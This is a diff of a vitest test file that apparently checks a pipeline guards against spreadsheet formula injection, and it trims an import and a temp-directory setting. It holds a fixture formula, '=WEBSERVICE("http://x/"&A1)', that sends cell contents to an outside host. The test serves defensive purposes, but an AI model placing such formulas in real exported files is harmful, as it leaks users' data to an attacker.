@@ -1,11 +1,7 @@
 /** Cells that a spreadsheet would run, through whole nights: guarded in the file, as they were in the documents. */
-import { existsSync } from 'node:fs';
 import { expect, test } from 'vitest';
 import type { PipelineEvent } from '../../src/pipeline/context/run-context.ts';
 import { openScene, SALES_MAPPING, type Scene, tally } from '../night.ts';
-
-// Memory instead of a disk: what is flushed when is no matter here.
-if (existsSync('/dev/shm')) process.env.TMPDIR = '/dev/shm';
 
 const FORMULA = '=WEBSERVICE("http://x/"&A1)';
 const QUOTED = `'@SUM(A1)`;
